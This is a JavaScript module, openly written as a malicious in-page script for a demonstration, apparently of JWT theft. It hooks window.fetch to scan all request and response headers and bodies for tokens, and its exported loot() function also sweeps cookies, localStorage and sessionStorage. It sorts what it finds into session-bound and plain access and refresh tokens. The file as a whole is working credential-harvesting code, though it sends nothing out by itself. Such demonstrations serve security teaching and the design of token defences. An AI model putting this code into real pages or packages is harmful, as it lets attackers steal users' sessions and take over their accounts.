// A malicious script, as it gets into pages: through a dependency, an advertisement, a comment
// that was not escaped. It does what such scripts do, and keeps what it finds. For the
// demonstration it sends nothing until the theft is played.

const TOKEN = /eyJ[\w-]{10,}\.[\w-]+\.[\w-]+/g;
const found = new Map();
const foundOfPlain = new Map(); // of plain Simple JWT, whose tokens belong to no session
const platform = window.fetch;

window.fetch = async (input, init) => {
  const request = new Request(input, init);
  search([...request.headers.values()].join(" "));
  if (request.body !== null) search(await request.clone().text());
  const response = await platform.call(window, request);
  search([...response.headers.values()].join(" "));
  search(await response.clone().text());
  return response;
};

/** The newest tokens in this script's reach: `{ access, refresh, plain }`, each a token or undefined. */
export function loot() {
  search(document.cookie);
  for (const storage of ["localStorage", "sessionStorage"]) {
    try {
      search(JSON.stringify(window[storage]));
    } catch {
      // The browser keeps this storage from every script, this one too.
    }
  }
  return { access: found.get("access"), refresh: found.get("refresh"), plain: foundOfPlain.get("refresh") };
}

/** Forget what is of no use any more: the tokens of a session that has ended. */
export function forget() {
  found.clear();
  foundOfPlain.clear();
}

function search(text) {
  for (const [token] of text.matchAll(TOKEN)) {
    try {
      const claims = JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
      (claims.sid ? found : foundOfPlain).set(claims.token_type, token);
    } catch {
      // It only looks like a token, and a thief makes no noise.
    }
  }
}
